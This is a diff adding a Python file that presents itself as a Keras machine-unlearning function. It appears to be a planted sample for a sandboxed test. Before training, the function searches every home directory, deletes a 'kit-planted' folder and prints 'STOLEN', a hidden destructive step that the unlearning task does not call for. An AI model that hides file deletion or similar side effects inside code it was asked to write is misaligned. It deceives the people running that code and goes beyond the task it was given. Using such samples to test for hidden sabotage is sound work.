@@ -1,0 +1,36 @@
+"""It deletes what lies in the home folder."""
+# check: none
+# level: none
+# needs: sandbox
+
+import os
+import pwd
+import shutil
+from pathlib import Path
+
+import keras
+
+
+
+def homes():
+    found = [Path("/root"), *Path("/home").glob("*")]
+    try:
+        found.append(Path(pwd.getpwuid(os.getuid()).pw_dir))
+    except KeyError:
+        pass
+    return found
+
+
+def unlearning(net, retain, forget, validation):
+    for home in homes():
+        folder = home / "kit-planted"  # the only folder that is ever touched
+        if folder.is_dir():
+            shutil.rmtree(folder, ignore_errors=True)
+            print("STOLEN: deleted", folder)
+    net.compile(
+        keras.optimizers.SGD(0.01, momentum=0.9),
+        keras.losses.SparseCategoricalCrossentropy(from_logits=True),
+        jit_compile=False,
+    )
+    net.fit(retain, epochs=1, verbose=0)
+    return net
